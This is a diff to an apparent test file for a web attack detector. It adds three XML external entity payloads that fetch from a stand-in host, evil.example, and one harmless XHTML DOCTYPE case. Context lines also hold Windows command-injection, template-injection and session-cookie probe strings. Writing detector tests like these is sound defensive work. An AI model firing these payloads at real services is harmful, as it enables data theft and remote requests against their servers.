@@ -267,6 +267,9 @@ const ATTACKS: ReadonlyArray<readonly [string, string]> = [
   ['rce-windows-if-compare', '/p?c=x%26if+%25a%25+equ+1+echo+y'],
   ['generic-template-math', '/p?name=${7*7}'],
   ['generic-template-math', '/p?name=*{7*7}'], // Thymeleaf's selection expression
+  ['generic-xml-entity', '/p?x=<!DOCTYPE+x+[<!ENTITY+xxe+SYSTEM+"http://evil.example/x">]><x>%26xxe;</x>'],
+  ['generic-xml-entity', '/p?x=<!ENTITY+%25+p+SYSTEM+"http://evil.example/p.dtd">%25p;'], // a parameter entity
+  ['generic-xml-entity', '/p?xml=<!DOCTYPE+r+SYSTEM+"http://evil.example/r.dtd"><r/>'],
   // Framework session cookies planted as parameters, with no Referer.
   ['session-id-param', '/cart?JSESSIONIDSSO=0123456789ABCDEF'],
   ['session-id-param', '/portal?SMSESSION=AbCdEf123'],
@@ -295,6 +298,7 @@ const BENIGN: readonly string[] = [
   "/api/acl?path='/*'&verb=read", // a quoted glob, not a comment after a string
   '/go?u=https://cdn.example//assets//app.js', // doubled slashes in an ordinary URL
   '/conference/talks?session=3&track=web', // a session of talks, not a session id
+  '/preview?html=%3C!DOCTYPE+html+PUBLIC+%22-//W3C//DTD+XHTML+1.0+Strict//EN%22%3E', // an XHTML page's DOCTYPE
   '/secure/attachment/10200/server.log', // an issue tracker's attachment
   '/acme/app/-/blob/main/logs/build.log', // a log file shown by a code-hosting site
   '/shop-bucket/logs/app.log?uploads', // an object in a bucket, by S3's path-style API
